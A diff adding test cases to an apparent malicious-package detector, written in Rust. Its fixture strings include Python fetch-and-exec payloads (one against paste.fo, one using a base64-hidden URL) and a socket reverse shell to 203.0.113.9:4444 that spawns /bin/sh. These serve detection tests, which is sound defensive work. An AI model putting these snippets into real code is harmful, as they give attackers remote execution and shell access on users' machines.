@@ -295,6 +295,11 @@ fn whom_a_function_speaks_to_is_not_hidden() {
             "",
         ),
         ("base64.b64decode(key).decode()", ""),
+        // A host of many in the open, and whose place there it is in data.
+        (
+            "'https://github.com/' + base64.b64decode('ZXZpbG9uZS94').decode()",
+            "critical",
+        ),
     ] {
         let text =
             format!("import base64, requests\ndef fetch(key):\n    return requests.get({address}).text\n");
@@ -459,6 +464,16 @@ fn a_temporary_file_is_followed_to_the_program_that_is_given_it() {
             "critical",
         ),
         (fetching, "subprocess.Popen([sys.executable, t.name])", "critical"),
+        (
+            fetching,
+            "os.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {t.name}\")",
+            "critical",
+        ),
+        (
+            "b\"from urllib.request import urlopen, Request;exec(urlopen(Request(url='https://paste.fo/x', headers={})).read())\"",
+            "os.system(f'start {sys.executable} {t.name}')",
+            "critical",
+        ),
         (fetching, "print(t.name)", ""),
         ("b'hello'", "subprocess.run(['cat', t.name])", ""),
     ] {
@@ -583,6 +598,36 @@ fn the_own_host_of_a_project_is_less_suspicious_where_somebody_asks() {
             expected,
             "{metadata}{text}"
         );
+    }
+}
+
+#[test]
+fn a_shell_stands_open_where_a_socket_takes_the_place_of_the_terminal() {
+    let shell = |dup: &str, start: &str| {
+        format!(
+            "import os, socket, pty\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nlog = open('log', 'w')\nos.dup2({dup}, 0)\n{start}\n"
+        )
+    };
+    for (text, expected) in [
+        (shell("s.fileno()", "pty.spawn('/bin/sh')"), true),
+        (shell("s.fileno()", "print(1)"), false),
+        (shell("log.fileno()", "pty.spawn('/bin/sh')"), false),
+    ] {
+        let found = judge(&[("setup.py", &text)]);
+        let told = found.iter().any(|f| f.severity.name() == "critical");
+        assert_eq!(told, expected, "{text}: {found:?}");
+    }
+}
+
+#[test]
+fn what_only_stands_together_is_never_blocked() {
+    for text in [
+        // Both in one function, and nothing joins them.
+        "import os, tempfile\nopen('notes.txt', 'w').write('import x; exec(urlopen())')\nt = tempfile.NamedTemporaryFile()\nt.write(b'hello')\nos.system('cat ' + t.name)\n",
+        "import os\nos.system('curl -o data.csv https://a.example/x && start notes.txt')\n",
+        "import os\nos.system('ping a.example && echo `hostname`')\n",
+    ] {
+        assert_ne!(worst(&[("setup.py", text)]), "critical", "{text}");
     }
 }
 
